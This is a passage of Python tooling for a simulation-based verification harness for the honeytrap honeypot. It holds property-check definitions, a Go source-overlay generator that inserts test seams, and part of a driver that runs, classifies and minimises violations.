   text="Seeded exploration: 1-3 logged-in FTP sessions on one service instance (interleaved by the choice tape) issue directory, file and transfer commands with path arguments over {a, b, .., ., '', /} up to 5 components plus odd/long paths that name a sentinel tree planted beside the service root on the real temp filesystem; transfers run over passive data connections on the simulated transport - with a TLS client inside the bubble, because the service wraps every passive data connection in TLS - some reset mid-transfer, some in plain text (error path); APPE/REST switch the next STOR to append mode; directed sequences create a path inside the root (MKD chain + STOR), switch to append and write again, on targets that are also absolute host paths, names relative to a planted process working directory, or siblings sharing the root's directory name as a prefix. Oracle: the sentinel tree (everything outside the root) is byte-identical and has neither lost nor gained entries; no reply or transferred data contains sentinel names or contents; every PWD reply is a rooted path without dot-dot components.",
   ref="§3 C11", tech=TECH + "sentinel-tree oracle on the real temp filesystem + reply/transfer content check; interleaved sessions and data-connection reset faults",
   note="Path mapping is sequential logic: the simulator contributes the shared-instance interleavings and the transfer faults; symlinks leaving the root are assumed absent."),
 "C05": dict(
   text="History invariants over every event of simulated runs of four workloads (segmented dialogues of all protocols, hostile inputs to all services, a payload sweep cycling through all 256 single bytes, 2-byte strings, invalid UTF-8/NUL/control bytes and up to 64 KiB through echo/counterstrike/memcached, and UDP datagrams through the raw listener's generic handler): every event marshals to JSON and the JSON has every key of the event (modulo encoding/json's UTF-8 coercion); payload-hex decodes to exactly the bytes of payload and payload-length is their count; recorded raw payloads are bytes that the simulated transport really delivered on that connection; source/destination addresses and ports equal the connection's as the simulated kernel created it. The merge/copy clause (MergeFrom keeps existing keys, CopyFrom overwrites) is evaluated against its reference semantics on every event the simulation produced (collisions with values of another type, empty strings, new keys) - a pure function, the simulator only supplies realistic events. NOT covered: the exhaustive 1- and 2-byte enumeration of event.Payload as an API (input enumeration, no schedule, clock or fault in it).",
   ref="§3 C05", tech=TECH + "history invariants over all events of simulated runs against the transport's ground truth; merge/copy reference semantics on those events",
   note="The exhaustive 2-byte enumeration is not decided (not a simulation target); the merge/copy clause is a pure function hosted by the simulator; a service recording only part of a datagram (its buffer size) is accepted as long as the bytes are the datagram's."),
 "C18": dict(
   level="fault_enumeration",
   text="Fault enumeration over restart histories: every boot is a separate OS process that runs the real start-up path on a shared data directory (server.New with WithDataDir/WithToken, constructors of the enabled storage-backed services, agent key pair) and then boots Run in a bubble, where the identity is observed through the public surface (token on a heartbeat event, SSH host key seen by a real ssh client, certificates presented after FTP AUTH TLS / SMTP STARTTLS / LDAP StartTLS, agent public key). The first boot of every second history is killed (os.Exit, no deferred functions) at one of 19 named crash points - around the token file's creation and write and before/after every store write of every key and certificate - in rotation, so each quick batch enumerates all of them; other histories plant the token-file states a kill can leave (absent, empty, proper prefixes). Oracle: every completed boot reports a well-formed token and parsable keys/certificates, and once a completed boot has reported an item, every later one reports the same.",
   ref="§3 C18", tech="deterministic simulation with fault injection: crash-point enumeration across separate boot processes on one data directory (overlay-inserted named crash points, planted torn token-file states), identity observed by in-bubble ssh/TLS clients",
   note="Process kill only (no page-cache loss or torn badger writes); crash points are the instants around each durable write, a superset of what a kill at a random instant can expose at those files."),
 "C16": dict(
   text="Seeded exploration: a scripted agent speaks the real libdisco Noise_NK client over a simulated stream to the real agent listener (real libdisco server, real session loop, real codec) and multiplexes 1-4 virtual connections (hello, 0-20 data messages of 0-65000 bytes, eof; IPv4/IPv6 remote addresses) plus pings, UDP relay messages, data for unknown connections, interleaved message by message by the choice tape; every message is framed as three transport writes, one, or with its body split in two; a quarter of the runs drop the agent after n messages. Recording stub services in echo mode sit behind. Oracle per virtual connection: surfaced once with the announced addresses; the bytes the service read equal the concatenation of its data messages; the echoed bytes return to the agent tagged with its addresses, in order; eof/disconnect end exactly the affected connections; every message the listener sends decodes.",
   ref="§3 C16", tech=TECH + "per-virtual-connection ordering/exactly-once oracle over both directions of the real encrypted tunnel; framing and agent-disconnect faults",
   note="The codec round trip is exercised by the messages that actually cross the tunnel; interleaving granularity is one agent message per scheduler step."),
 "C15": dict(
   text="Seeded exploration of http-proxy, copy (tcp and udp) and dns-proxy configured with the real forward director, whose dial goes through the simulated kernel: 1-3 clients perform 1-4 exchanges each (HTTP requests with repeated header names, bodies up to 64 KiB, content-length or chunked, lock-step or pipelined, seeded segmentation; raw streams; datagrams / DNS queries) against scripted backends inside the bubble that answer with seeded segmentation of the reply leg; a decoy backend listens on another address; the backend may refuse the connection or close mid-reply (then only 'nothing wrong is delivered' is required). Oracle: what the backend received equals what the client sent (method, target, header multiset, body; raw bytes), what the client received equals what the backend sent, in order; one event per relayed request attributed to the client; the kernel's dial log names only the configured backend (its own port when two service instances share the director) and the decoy saw nothing. ssh-proxy mode: an x/crypto/ssh server (backend) and x/crypto/ssh clients run inside the bubble around the real ssh-proxy: every password a client presents must be tried at the backend for that user, the client is let in iff the backend accepted, channel requests (env, pty-req, exec/shell, window-change, unknown types) arrive with the same payloads in order, channel data is relayed both ways unchanged (up to 64 KiB, seeded chunking, input ending before the output), every attempt and request is on record attributed to the client; 8 % of the clients drop the connection after their requests.",
   ref="§3 C15", tech=TECH + "end-to-end relay-fidelity oracle against scripted in-bubble backends, dial-target accounting; backend refuse/close faults, segmentation on both legs",
   note="Content-Length/Transfer-Encoding framing may be re-done by the proxy. Clients that leave without waiting, or whose stream gets an idle gap near the 30 s deadline through the interleaving, are judged only for 'nothing wrong delivered'."),
}
NA = {
 "C17": "pure functions of a byte buffer (decoder methods, ipp decode/encode): no schedule, clock, fault or interleaving to simulate (DESIGN §4)",
}
PENDING_REASON = "no check registered yet in this revision (engine under construction; see DESIGN.md build order)"
ALL = ["C%02d" % i for i in range(1, 21)]

def main():
    checks = []
    for pid in ALL:
        if pid not in CHECKS:
            continue
        c = CHECKS[pid]
        checks.append({
            "property_id": pid,
            "quick_cmd": "./run.sh %s quick" % pid,
            "thorough_cmd": "./run.sh %s thorough" % pid,
            "evidence_file": "/verif/evidence/%s.json" % pid,
            "replay_cmd_template": "./run.sh replay {path}",
            "engine": "htsim",
            "level_claimed": {"category": c.get("level", "exploration"), "text": c["text"], "design_ref": c["ref"]},
            "level_note": c["note"],
            "technique": c["tech"],
        })
    na = []
    for pid in ALL:
        if pid in CHECKS:
            continue
        na.append({"property_id": pid, "reason": NA.get(pid, PENDING_REASON)})
    m = {
        "version": 1,
        "setup_cmd": "./setup.sh",
        "hooks": {
            "guard": "verif",
            "enable": "seams are injected at check-build time with `go test -overlay` (generated by driver/overlay.py from /repo's current tree) plus verif-tagged files from /verif/seams; built with -tags verif; nothing is committed to /repo",
            "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod go test -json -vet=off -count=1 -timeout 25m ./...",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [{"name": "htsim", "path": "/verif/sim", "serves_properties": sorted(CHECKS), "kind_free_text": "deterministic simulator: real honeytrap server inside a testing/synctest bubble over a simulated kernel; Python driver fans seeds out to worker processes, confirms/minimises/replays violations"}],
        "checks": checks,
        "not_applicable": na,
        "notes": "Repairs of genuine defects are unguarded 'fix:' commits in /repo, listed in known_findings.json under 'fixed'. Exit codes: 0 held, 1 VIOLATION, 2 infrastructure.",
    }
    json.dump(m, open(os.path.join(VERIF, "MANIFEST.json"), "w"), indent=1)

if __name__ == "__main__":
    main()
