#!/usr/bin/env python3
"""Build-time seam overlay: reads files from /repo's *current working tree*, rewrites the anchored
call tokens, and emits a `go build -overlay` JSON that also adds one verif-tagged seam file per
package.  /repo itself is never modified.  A missing anchor is an infrastructure error (exit 2)."""
import json, os, re, sys

REPO = os.environ.get("VERIF_REPO", "/repo")
HERE = os.path.dirname(os.path.abspath(__file__))
VERIF = os.path.dirname(HERE)

# file -> list of (literal token, replacement, expected count)
REWRITES = {
    "listener/socket/socket.go": [
        ("net.Listen(", "VerifListen(", 1),
        ("net.ListenUDP(", "VerifListenUDP(", 1),
    ],
    "services/ftp/socket.go": [
        ("net.ListenTCP(", "VerifListenTCP(", 1),
        ("net.DialTCP(", "VerifDialTCP(", 1),
        ("net.ResolveTCPAddr(", "VerifResolveTCPAddr(", 2),
    ],
    "director/forward/forward.go": [
        ("net.Dial(", "VerifDial(", 1),
    ],
    # the token writer: whichever of these spellings the file uses gets crash points (at least one must be present)
    "server/options.go": [
        ("ioutil.WriteFile(", "VerifWriteFile(", 0),
        ("os.WriteFile(", "VerifWriteFile(", 0),
        ("os.OpenFile(", "VerifOpenFile(", 0),
        ("os.Create(", "VerifCreate(", 0),
        ("os.Rename(", "VerifRename(", 0),
    ],
    "services/ssh/storage.go": [("s.Set(", "VerifSet(s, ", 1)],
    "services/ftp/storage.go": [("s.Set(", "VerifSet(s, ", 2)],
    "services/smtp/storage.go": [("s.Set(", "VerifSet(s, ", 2)],
    "services/ldap/storage.go": [("s.Set(", "VerifSet(s, ", 2)],
    "listener/agent/storage.go": [("s.Set(", "VerifSet(s, ", 1)],
    "listener/agent/agent.go": [("libdisco.Listen(", "VerifListen(", 1)],
    "listener/canary/canary_linux.go": [
        ("syscall.EpollCreate1(", "VerifSys.EpollCreate1(", 1),
        ("syscall.EpollCtl(", "VerifSys.EpollCtl(", 1),
        ("syscall.EpollWait(", "VerifSys.EpollWait(", 1),
        ("syscall.Socket(", "VerifSys.Socket(", 1),
        ("syscall.Close(", "VerifSys.Close(", 1),
        ("syscall.Sendto(", "VerifSys.Sendto(", 1),
        ("syscall.Recvfrom(", "VerifSys.Recvfrom(", 1),
        ("syscall.GetsockoptInt(", "VerifSys.GetsockoptInt(", 1),
        ('"/proc/net/route"', "VerifRoutePath", 1),
        ('"/proc/net/arp"', "VerifARPPath", 1),
        ("net.InterfaceByName(", "VerifInterfaceByName(", 1),
    ],
}
# package dir -> seam file (under /verif/seams)
SEAMS = [
    "listener/socket/zz_verif_seam.go",
    "services/ftp/zz_verif_seam.go",
    "director/forward/zz_verif_seam.go",
    "services/ipp/zz_verif_seam.go",
    "listener/canary/zz_verif_seam.go",
    "server/zz_verif_seam.go",
    "services/ssh/zz_verif_crash.go",
    "services/ftp/zz_verif_crash.go",
    "services/smtp/zz_verif_crash.go",
    "services/ldap/zz_verif_crash.go",
    "listener/agent/zz_verif_crash.go",
    "listener/agent/zz_verif_seam.go",
]

# yield points (tools/yieldgen): every non-test file of these directories is instrumented (when it has a site)
YIELD_DIRS = ["services", "server", "listener", "listener/socket", "listener/agent", "listener/canary",
              "pushers", "pushers/eventbus", "pushers/file", "director/forward"]
YIELD_SKIP_PREFIX = ("services/ja3",)   # vendored TLS stack

class AnchorError(Exception):
    pass

def yield_sources():
    out = []
    dirs = list(YIELD_DIRS)
    base = os.path.join(REPO, "services")
    for d in sorted(os.listdir(base)):
        rel = "services/" + d
        if os.path.isdir(os.path.join(base, d)) and not rel.startswith(YIELD_SKIP_PREFIX):
            dirs.append(rel)
    for d in dirs:
        full = os.path.join(REPO, d)
        if not os.path.isdir(full):
            continue
        for f in sorted(os.listdir(full)):
            if f.endswith(".go") and not f.endswith("_test.go"):
                out.append(d + "/" + f)
    return out

def generate(outdir):
    outdir = os.path.abspath(outdir)
    os.makedirs(outdir, exist_ok=True)
    replace = {}
    for rel, rules in REWRITES.items():
        src = os.path.join(REPO, rel)
        try:
            text = open(src, encoding="utf-8").read()
        except OSError as e:
            raise AnchorError("seam file missing: %s (%s)" % (src, e))
        found_any = False
        for tok, repl, want in rules:
            got = text.count(tok)
            if got < 1:
                if want == 0:
                    continue  # optional spelling
                raise AnchorError("seam anchor %r not found in %s" % (tok, src))
            found_any = True
            # every occurrence goes through the seam (a tree edit may add call sites)
            text = text.replace(tok, repl)
        if not found_any:
            raise AnchorError("none of the seam anchors %r found in %s" % ([r[0] for r in rules], src))
        if rel == "services/ftp/socket.go":
            # active-mode data connections: the socket keeps its connection as *net.TCPConn, which a simulated
            # connection cannot be.  When the declaration still reads as below, it becomes a net.Conn (only Read,
            # Write and Close are used on it) and the dial goes to the seam that returns one; otherwise the dial stays
            # with the seam of the concrete type, which refuses inside the simulation (active mode not exercised).
            decl = "type ftpActiveSocket struct {\n\tconn *net.TCPConn\n"
            if decl in text and "socket.conn = tcpConn" in text:
                text = text.replace(decl, "type ftpActiveSocket struct {\n\tconn net.Conn\n").replace("VerifDialTCP(", "VerifDialConn(")
        dst = os.path.join(outdir, rel.replace("/", "__"))
        with open(dst, "w", encoding="utf-8") as f:
            f.write(text)
        replace[src] = dst
    for rel in SEAMS:
        src = os.path.join(VERIF, "seams", rel)
        replace[os.path.join(REPO, rel)] = src
    # yield points: instrument the (possibly already rewritten) sources
    tool = os.environ.get("VERIF_YIELDGEN")
    if tool:
        import subprocess
        ydir = os.path.join(outdir, "yield")
        os.makedirs(ydir, exist_ok=True)
        args = []
        names = {}
        for rel in yield_sources():
            src = os.path.join(REPO, rel)
            cur = replace.get(src, src)
            name = rel.replace("/", "__")
            names[name] = src
            args.append("%s=%s" % (cur, name))
        r = subprocess.run([tool, ydir] + args, capture_output=True, text=True)
        if r.returncode != 0:
            raise AnchorError("yieldgen failed: " + r.stderr[-2000:])
        sites = 0
        for line in r.stdout.splitlines():
            _, dst, n = line.split("\t")
            replace[names[os.path.basename(dst)]] = dst
            sites += int(n)
        replace[os.path.join(REPO, "verifyield", "yield.go")] = os.path.join(VERIF, "seams", "verifyield", "yield.go")
        with open(os.path.join(outdir, "yield-sites.txt"), "w") as f:
            f.write("%d\n" % sites)
    path = os.path.join(outdir, "overlay.json")
    with open(path, "w") as f:
        json.dump({"Replace": replace}, f, indent=1)
    return path

if __name__ == "__main__":
    try:
        print(generate(sys.argv[1] if len(sys.argv) > 1 else os.path.join(VERIF, ".build", "overlay")))
    except AnchorError as e:
        print("INFRA: " + str(e), file=sys.stderr)
        sys.exit(2)
