#!/usr/bin/env python3
"""Driver: builds the worker from /repo's current tree, fans seeds out to worker processes, watches
them, confirms and minimises violations in fresh processes, handles known findings, writes
evidence.  Exit 0 = held on everything explored; 1 = VIOLATION; 2 = infrastructure trouble."""
import hashlib, json, os, re, shutil, subprocess, sys, tempfile, time, copy, signal

HERE = os.path.dirname(os.path.abspath(__file__))
VERIF = os.path.dirname(HERE)
BUILD = os.environ.get("VERIF_BUILD") or os.path.join(VERIF, ".build")
BIN = os.path.join(BUILD, "htsim.test")
RACE_BIN = os.path.join(BUILD, "htsim.race.test")
TEMPLATE = os.path.join(BUILD, "datadir-template")
NCPU = min(16, os.cpu_count() or 4)
# where evidence and replay files go (mutant trials are redirected so that they do not clobber the real ones)
OUTDIR = os.environ.get("VERIF_OUT_DIR") or VERIF

sys.path.insert(0, HERE)
import props  # per-property settings

_children = set()

def _kill_children(*_a):
    for p in list(_children):
        try:
            p.kill()
        except Exception:
            pass
    if _a:
        os._exit(2)

import atexit
atexit.register(_kill_children)
signal.signal(signal.SIGTERM, _kill_children)
signal.signal(signal.SIGINT, _kill_children)

def log(*a):
    print(*a, file=sys.stderr, flush=True)

def infra(msg):
    print("INFRA: " + msg, flush=True)
    log("INFRA: " + msg)
    sys.exit(2)

def worker_env(extra=None):
    env = dict(os.environ)
    env.update({
        "GOMAXPROCS": "1",
        "GODEBUG": "asyncpreemptoff=1,randseednop=0",
        "VERIF_DATADIR_TEMPLATE": TEMPLATE,
        "GOTRACEBACK": "all",
    })
    env.pop("VERIF_SCENARIO", None)
    env.pop("VERIF_SEEDS", None)
    env.pop("VERIF_EMIT", None)
    if extra:
        env.update(extra)
    return env

def build(race=False):
    t0 = time.time()
    r = subprocess.run([os.path.join(VERIF, "build.sh")] + (["race"] if race else []), capture_output=True, text=True, env=dict(os.environ, VERIF_BUILD=BUILD))
    if r.returncode != 0:
        infra("build failed:\n" + r.stdout[-3000:] + r.stderr[-3000:])
    return time.time() - t0

def ensure_template():
    """A data directory with token, keys and certificates generated once (outside any bubble)."""
    marker = os.path.join(TEMPLATE, ".complete")
    if os.path.exists(marker):
        return
    shutil.rmtree(TEMPLATE, ignore_errors=True)
    os.makedirs(TEMPLATE)
    env = worker_env({"VERIF_PROP": "TEMPLATE", "VERIF_TEMPLATE_OUT": TEMPLATE})
    r = subprocess.run([BIN, "-test.run", "^TestMakeTemplate$", "-test.timeout", "10m"], env=env, capture_output=True, text=True)
    if r.returncode != 0 or not os.path.exists(os.path.join(TEMPLATE, "token")):
        infra("could not create datadir template:\n" + r.stdout[-2000:] + r.stderr[-2000:])
    open(marker, "w").write("ok\n")

# ------------------------------------------------------------------------------------------------

class Worker:
    def __init__(self, wid, prop, tier, base, lo, hi, stride, binpath, logdir, extra_env=None, sample_every=0):
        self.wid, self.prop, self.tier, self.base = wid, prop, tier, base
        self.lo, self.hi, self.stride = lo, hi, stride
        self.binpath = binpath
        self.logdir = logdir
        self.extra_env = extra_env or {}
        self.sample_every = sample_every
        self.gen = 0
        self.proc = None
        self.results = []
        self.open_idx = None
        self.open_seed = None
        self.deaths = []   # (idx, seed, rc, stderr_tail)
        self.done = False
        self.start(lo)

    def start(self, frm):
        self.gen += 1
        self.proc_lo = frm
        self.out = os.path.join(self.logdir, "w%d.%d.jsonl" % (self.wid, self.gen))
        self.err = os.path.join(self.logdir, "w%d.%d.stderr" % (self.wid, self.gen))
        for p in (self.out, self.err):
            if os.path.exists(p):
                os.remove(p)
        open(self.out, "w").close()
        env = worker_env({
            "VERIF_PROP": self.prop, "VERIF_TIER": self.tier,
            "VERIF_SEEDS": "%d:%d:%d" % (self.base, frm, self.hi), "VERIF_STRIDE": str(self.stride),
            "VERIF_OUT": self.out,
        })
        if self.sample_every:
            env["VERIF_SAMPLE_EVERY"] = str(self.sample_every)
        env.update(self.extra_env)
        self.errf = open(self.err, "w")
        args = [self.binpath, "-test.run", "^TestWorker$", "-test.timeout", "0"]
        if os.environ.get("VERIF_COVERDIR"):  # tools/coverage.sh: a binary built with VERIF_COVER=1
            args.append("-test.coverprofile=%s/%s.w%d.%d.cov" % (os.environ["VERIF_COVERDIR"], self.prop, self.wid, self.gen))
        self.proc = subprocess.Popen(args, env=env, stdout=subprocess.DEVNULL, stderr=self.errf, cwd=self.logdir)
        _children.add(self.proc)
        self.pos = 0
        self.last_progress = time.time()
        self.last_cpu = 0.0
        self.cpu_at_progress = 0.0

    def cpu(self):
        try:
            f = open("/proc/%d/stat" % self.proc.pid).read().rsplit(")", 1)[1].split()
            return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
        except Exception:
            return self.last_cpu

    def rss_mb(self):
        try:
            for l in open("/proc/%d/status" % self.proc.pid):
                if l.startswith("VmRSS:"):
                    return int(l.split()[1]) / 1024
        except Exception:
            pass
        return 0

    def poll(self):
        """read new output lines; returns True while alive or unread data remains"""
        with open(self.out) as f:
            f.seek(self.pos)
            data = f.read()
        if data:
            # only complete lines
            nl = data.rfind("\n")
            if nl >= 0:
                chunk = data[:nl + 1]
                self.pos += len(chunk.encode())
                for line in chunk.splitlines():
                    if not line.strip():
                        continue
                    try:
                        d = json.loads(line)
                    except Exception:
                        continue
                    self.last_progress = time.time()
                    self.cpu_at_progress = self.cpu()
                    t = d.get("t")
                    if t == "begin":
                        self.open_idx, self.open_seed = d["idx"], d["seed"]
                    elif t == "end":
                        if self.wid >= 100:
                            d["race"] = True
                        d["_seq"] = (self.base, self.proc_lo, self.stride)
                        self.results.append(d)
                        self.open_idx = None
                    elif t == "recycle":
                        self.recycle_next = d["next"]
                    elif t == "done":
                        self.done = True
                    elif t == "infra":
                        infra("worker: " + d.get("msg", ""))

    def stderr_tail(self, n=6000):
        try:
            self.errf.flush()
            data = open(self.err, errors="replace").read()
            return crash_excerpt(data, n)
        except Exception:
            return ""

    def kill(self):
        try:
            self.proc.kill()
        except Exception:
            pass
        self.proc.wait()

def crash_excerpt(data, n=6000):
    """the part of a worker's stderr that starts at the Go crash banner (or its tail when there is none)"""
    m = re.search(r"^(fatal error: |panic: |runtime: goroutine stack exceeds)", data, re.M)
    if m:
        return data[m.start():m.start() + n]
    return data[-n:]

def classify_idle_hang(dump):
    """A worker that sits idle inside a run: synctest.Wait never returns when a goroutine of the bubble is
    blocked on a sync.Mutex/RWMutex (not a durable block).  If the dump shows a goroutine with honeytrap
    frames waiting for a lock, that is a deadlock in honeytrap (kind, site); otherwise None (infrastructure)."""
    for block in dump.split("\n\n"):
        head = block.split("\n", 1)[0]
        if "synctest bubble" not in head:
            continue
        if not re.search(r"\[(sync\.(RW)?Mutex\.(R?Lock)|semacquire)", head):
            continue
        for m in re.finditer(r"^(github\.com/honeytrap/honeytrap/\S+)\(", block, re.M):
            site = re.sub(r"\.func\d+(\.\d+)*$", "", m.group(1).replace("github.com/honeytrap/honeytrap/", ""))
            return "blocked-forever-on-lock", site, block[:1500]
    return None

def quit_and_dump(proc, errpath):
    """SIGQUIT makes the Go runtime print every goroutine; returns the dump text"""
    try:
        proc.send_signal(signal.SIGQUIT)
        proc.wait(timeout=20)
    except Exception:
        try:
            proc.kill()
            proc.wait()
        except Exception:
            pass
    try:
        data = open(errpath, errors="replace").read()
    except Exception:
        return ""
    i = data.rfind("SIGQUIT")
    return data[i:] if i >= 0 else data[-200000:]

def banner_site(stderr):
    """kind and top honeytrap frame of a Go crash banner"""
    kind = "process-died"
    m = re.search(r"^(fatal error: [^\n]+|panic: [^\n]+)", stderr, re.M)
    if m:
        head = m.group(1)
        if head.startswith("fatal error: stack overflow") or "stack exceeds" in stderr:
            kind = "fatal:stack-overflow"
        elif "concurrent map" in head:
            kind = "fatal:concurrent-map"
        elif head.startswith("fatal error: "):
            kind = "fatal:" + re.sub(r"[^a-z]+", "-", head[13:60].lower()).strip("-")
        else:
            kind = "panic"
    if "stack exceeds" in stderr and kind == "process-died":
        kind = "fatal:stack-overflow"
    site = ""
    for m in re.finditer(r"^(github\.com/honeytrap/honeytrap/\S+?)\(", stderr, re.M):
        site = m.group(1).replace("github.com/honeytrap/honeytrap/", "")
        fm = re.match(r"^(github\.com/honeytrap/honeytrap/\S+)\(", stderr[m.start():], re.M)
        if fm:
            site = fm.group(1).replace("github.com/honeytrap/honeytrap/", "")
        site = re.sub(r"\.func\d+(\.\d+)*$", "", site)
        break
    if not site:
        m = re.search(r"(/repo/[^\s:]+:\d+)", stderr)
        if m:
            site = m.group(1)
    return kind, site, (m.group(0) if m else "")

def run_single(prop, scenario, tier="quick", binpath=None, timeout=None, extra_env=None):
    """run one scenario in a fresh process; returns result dict (verdict may be 'died')"""
    binpath = binpath or BIN
    timeout = timeout or props.get(prop).get("single_timeout", 300)
    d = tempfile.mkdtemp(prefix="htsim-single-")
    try:
        sp = os.path.join(d, "sc.json")
        json.dump(scenario, open(sp, "w"))
        out = os.path.join(d, "out.jsonl")
        env = worker_env({"VERIF_PROP": prop, "VERIF_TIER": tier, "VERIF_SCENARIO": sp, "VERIF_OUT": out})
        if extra_env:
            env.update(extra_env)
        if env.get("VERIF_RACE"):
            env["GORACE"] = "halt_on_error=0 log_path=%s/race" % d
        cfgp = props.get(prop) or {}
        cpu_limit = cfgp.get("stall_s", 90)
        rss_limit = cfgp.get("rss_mb", 3000)
        errp = os.path.join(d, "stderr")
        with open(errp, "w") as ef:
            p = subprocess.Popen([binpath, "-test.run", "^TestWorker$", "-test.timeout", "0"], env=env, cwd=d,
                                 stdout=subprocess.DEVNULL, stderr=ef)
            _children.add(p)
            t_start = time.time()
            verdict = None
            while p.poll() is None:
                time.sleep(0.05)
                try:
                    f = open("/proc/%d/stat" % p.pid).read().rsplit(")", 1)[1].split()
                    cpu = (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
                    rss = int(f[21]) * os.sysconf("SC_PAGE_SIZE") / (1 << 20)
                except Exception:
                    cpu, rss = 0, 0
                wall = time.time() - t_start
                if wall > cfgp.get("idle_s", 45) and cpu < 0.05 * wall and os.path.exists(out) and '"begin"' in open(out).read() and '"end"' not in open(out).read():
                    ef.flush()
                    dump = quit_and_dump(p, errp)
                    _children.discard(p)
                    cls = classify_idle_hang(dump)
                    if cls is None:
                        return {"verdict": "infra", "kind": "hang", "site": props.site_of(scenario), "detail": "single run idle for %ds\n%s" % (int(wall), dump[:1500])}
                    return {"verdict": "violation", "kind": cls[0], "site": cls[1], "detail": cls[2]}
                if rss > rss_limit:
                    verdict = ("runaway-handler", "process RSS reached %d MiB during one run" % rss)
                elif cpu > cpu_limit:
                    verdict = ("runaway-handler", "process consumed %.0f CPU-seconds in one run without finishing" % cpu)
                elif time.time() - t_start > timeout:
                    verdict = ("hang", "single run exceeded %ds wall time using %.1f CPU-seconds" % (timeout, cpu))
                if verdict:
                    p.kill()
                    p.wait()
                    break
            rc = p.returncode
            _children.discard(p)
        stderr = crash_excerpt(open(errp, errors="replace").read())
        if verdict:
            if verdict[0] == "hang":
                return {"verdict": "infra", "kind": "hang", "site": props.site_of(scenario), "detail": verdict[1]}
            return {"verdict": "violation", "kind": verdict[0], "site": props.site_of(scenario), "detail": verdict[1]}
        res = None
        if os.path.exists(out):
            for line in open(out):
                try:
                    x = json.loads(line)
                except Exception:
                    continue
                if x.get("t") == "end":
                    res = x
        if res is None:
            kind, site, _ = banner_site(stderr)
            return {"verdict": "violation", "kind": kind, "site": site or props.site_of(scenario), "detail": stderr[:2500], "died": True, "rc": rc}
        return res
    finally:
        shutil.rmtree(d, ignore_errors=True)

def same_step_concurrency(sc):
    if (sc.get("params") or {}).get("yield_pct"):
        return True
    return any(isinstance(v, int) and v & (1 << 16) for v in (sc.get("schedule") or []))

def fingerprint(res):
    return (res.get("kind", ""), res.get("site", ""))

def violations_of(res):
    """every violation a result reports, each as a result-shaped dict (engines may report several per scenario)"""
    al = res.get("all")
    if not al:
        return [res]
    out = []
    for v in al:
        d = dict(res)
        d.pop("all", None)
        d.update({"kind": v.get("kind"), "site": v.get("site"), "detail": v.get("detail")})
        out.append(d)
    return out

def pick_fp(res, fp):
    """the violation with fingerprint fp among those a result reports, or None"""
    if res.get("verdict") != "violation":
        return None
    for v in violations_of(res):
        if fingerprint(v) == fp:
            return v
    return None

# ------------------------------------------------------------------------------------------------
# minimisation: delta debugging over the scenario structure

def candidates(sc):
    """yield simpler scenarios, roughly biggest simplification first"""
    acts = sc.get("actors") or []
    pre = sc.get("prefix") or []
    if pre:
        n = len(pre)
        if n > 1:
            for lo, hi in ((0, n // 2), (n // 2, n)):
                c = copy.deepcopy(sc)
                del c["prefix"][lo:hi]
                yield c
        for i in range(n):
            c = copy.deepcopy(sc)
            del c["prefix"][i]
            if not c["prefix"]:
                c.pop("prefix")
            yield c
    if len(acts) > 1:
        for i in range(len(acts)):
            c = copy.deepcopy(sc)
            del c["actors"][i]
            yield c
    # drop halves / single ops
    for ai, a in enumerate(acts):
        ops = a.get("ops") or []
        n = len(ops)
        if n > 3:
            for lo, hi in ((n // 2, n), (0, n // 2)):
                c = copy.deepcopy(sc)
                del c["actors"][ai]["ops"][lo:hi]
                yield c
        for i in reversed(range(n)):
            c = copy.deepcopy(sc)
            del c["actors"][ai]["ops"][i]
            yield c
    # remove all cuts / joins
    for ai, a in enumerate(acts):
        for oi, o in enumerate(a.get("ops") or []):
            if o.get("cuts"):
                c = copy.deepcopy(sc)
                c["actors"][ai]["ops"][oi].pop("cuts")
                yield c
                if len(o["cuts"]) > 1:
                    for k in range(len(o["cuts"])):
                        c = copy.deepcopy(sc)
                        c["actors"][ai]["ops"][oi]["cuts"] = [o["cuts"][k]]
                        yield c
            if o.get("join"):
                c = copy.deepcopy(sc)
                c["actors"][ai]["ops"][oi].pop("join")
                yield c
            if o.get("ms", 0) > 1:
                c = copy.deepcopy(sc)
                c["actors"][ai]["ops"][oi]["ms"] = 1 if o["ms"] < 1000 else o["ms"] // 10
                yield c
    if any(sc.get("schedule") or []):
        c = copy.deepcopy(sc)
        c["schedule"] = [0] * len(sc["schedule"])
        yield c
    if sc.get("faults"):
        c = copy.deepcopy(sc)
        c["faults"] = []
        yield c

def minimise(prop, sc, fp, budget=120, binpath=None, extra_env=None):
    from concurrent.futures import ThreadPoolExecutor
    spent = 0
    cur = sc
    improved = True
    while improved and spent < budget:
        improved = False
        cands = list(candidates(cur))
        # evaluate in parallel batches; take the first (in order) that still fails the same way
        i = 0
        while i < len(cands) and spent < budget:
            batch = cands[i:i + NCPU]
            with ThreadPoolExecutor(max_workers=NCPU) as ex:
                outs = list(ex.map(lambda c: run_single(prop, c, binpath=binpath, extra_env=extra_env), batch))
            spent += len(batch)
            hit = None
            for c, o in zip(batch, outs):
                if pick_fp(o, fp) is not None:
                    hit = c
                    break
            if hit is not None:
                cur = hit
                improved = True
                break
            i += len(batch)
    return cur, spent

# ------------------------------------------------------------------------------------------------
# known findings

def load_known(prop):
    p = os.path.join(VERIF, "known_findings.json")
    if not os.path.exists(p):
        return []
    data = json.load(open(p))
    return [e for e in data.get("findings", []) if e.get("property") == prop and e.get("status") == "open"]

def match_known(known, res, sc):
    """a violation is attributed to a listed finding only if kind, site and the trigger predicate
    (traits computed by the engine / scenario class) all match"""
    for e in known:
        m = e.get("match", {})
        if "kind" in m and not re.fullmatch(m["kind"], res.get("kind", "")):
            continue
        if "site" in m and not re.fullmatch(m["site"], res.get("site", "")):
            continue
        if "class" in m and not re.fullmatch(m["class"], (sc or {}).get("class", res.get("class", "")) or ""):
            continue
        if "traits" in m:
            have = set(res.get("traits") or [])
            if not set(m["traits"]) <= have:
                continue
        if "not_traits" in m:
            have = set(res.get("traits") or [])
            if set(m["not_traits"]) & have:
                continue
        if "detail" in m and not re.search(m["detail"], res.get("detail", "") or "", re.S):
            continue
        return e
    return None

# ------------------------------------------------------------------------------------------------

def selftest_determinism(prop, n=300):
    """same seeds, different process partitionings and positions: every digest and verdict must agree"""
    use_scratch_tmp("selftest-" + prop)
    cfg = props.get(prop)
    build()
    ensure_template()
    seed = int(os.environ.get("VERIF_SEED", "1") or "1")
    runs = []
    traces = {}
